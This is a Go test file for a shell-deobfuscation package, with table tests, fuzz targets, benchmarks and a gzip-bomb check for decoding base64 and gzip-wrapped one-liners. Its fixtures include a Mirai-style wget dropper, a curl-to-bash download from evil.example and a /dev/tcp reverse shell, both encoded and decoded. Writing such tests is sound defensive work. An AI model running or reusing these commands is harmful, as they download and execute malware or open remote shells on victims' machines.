package deobfuscate

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"
)

const (
	shMiraiBlob  = `d2dldCBodHRwOi8vNDUuOS4xLjIvYmlucy94ODYgLU8gL3RtcC94OyBjaG1vZCAreCAvdG1wL3g7IC90bXAveAo=`
	shMiraiText  = `wget http://45.9.1.2/bins/x86 -O /tmp/x; chmod +x /tmp/x; /tmp/x`
	shGzipRevSh  = `H4sIAAAAAAAC/0tKLM5Q0M1UsFNT0E9JLdMvSS7QNzTQA0FTfRMgUDCwUzPkAgDHABCnJwAAAA==`
	shCurlBashB6 = `Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL2Euc2ggfCBiYXNo`
)

func TestShBase64Pipe(t *testing.T) {
	runTransformTable(t, ShBase64Pipe, []transformCase{
		{"mirai dropper", `echo ` + shMiraiBlob + ` | base64 -d | sh`, `echo ` + shMiraiText + ` | base64 -d | sh`, true},
		{"quoted, --decode", `echo '` + shCurlBashB6 + `'|base64 --decode|bash`, `echo 'curl -s http://evil.example/a.sh | bash'|base64 --decode|bash`, true},
		{"printf -n", `printf -n "` + shCurlBashB6 + `" | base64 -d`, `printf -n "curl -s http://evil.example/a.sh | bash" | base64 -d`, true},
		{"binary blob", `echo AAECAwQFBgcICQoLDA0ODxAREhM= | base64 -d > f`, `echo AAECAwQFBgcICQoLDA0ODxAREhM= | base64 -d > f`, false},
		{"short blob", `echo aGk= | base64 -d`, `echo aGk= | base64 -d`, false},
		{"encoding direction", `echo hello | base64`, `echo hello | base64`, false},
	})
}

func TestShBase64Gunzip(t *testing.T) {
	runTransformTable(t, ShBase64Gunzip, []transformCase{
		{"gunzip", `echo '` + shGzipRevSh + `' | base64 -d | gunzip | bash`, `echo 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' | bash`, true},
		{"gzip -dc", `echo ` + shGzipRevSh + `|base64 -d|gzip -dc|sh`, `echo 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'|sh`, true},
		{"zcat", `echo ` + shGzipRevSh + ` | base64 --decode | zcat | sh`, `echo 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' | sh`, true},
		{"corrupt", `echo H4sIAAAAAAAAAAAAAAAAAAAA | base64 -d | gunzip`, `echo H4sIAAAAAAAAAAAAAAAAAAAA | base64 -d | gunzip`, false},
	})
}

func TestShBase64GunzipBomb(t *testing.T) {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(bytes.Repeat([]byte("A"), 3*maxTransformOutput))
	zw.Close()
	in := "echo " + base64.StdEncoding.EncodeToString(buf.Bytes()) + " | base64 -d | gunzip | sh"
	if out, changed := ShBase64Gunzip(in); changed {
		t.Fatalf("bomb inflated to %d bytes", len(out))
	}
}

func FuzzShBase64Pipe(f *testing.F) {
	fuzzTransform(f, ShBase64Pipe, `echo `+shMiraiBlob+` | base64 -d | sh`, `printf 'AAAAAAAAAAAAAAAAAAAAAAAA'|base64 -d`)
}

func FuzzShBase64Gunzip(f *testing.F) {
	fuzzTransform(f, ShBase64Gunzip, `echo `+shGzipRevSh+` | base64 -d | gunzip`, `echo H4sI`+strings.Repeat("A", 40)+`|base64 -d|zcat`)
}

func BenchmarkShBase64Pipe(b *testing.B) {
	benchTransform(b, ShBase64Pipe, `cd /tmp; echo `+shMiraiBlob+` | base64 -d | sh`)
}

func BenchmarkShBase64Gunzip(b *testing.B) {
	benchTransform(b, ShBase64Gunzip, `echo `+shGzipRevSh+` | base64 -d | gunzip | bash`)
}
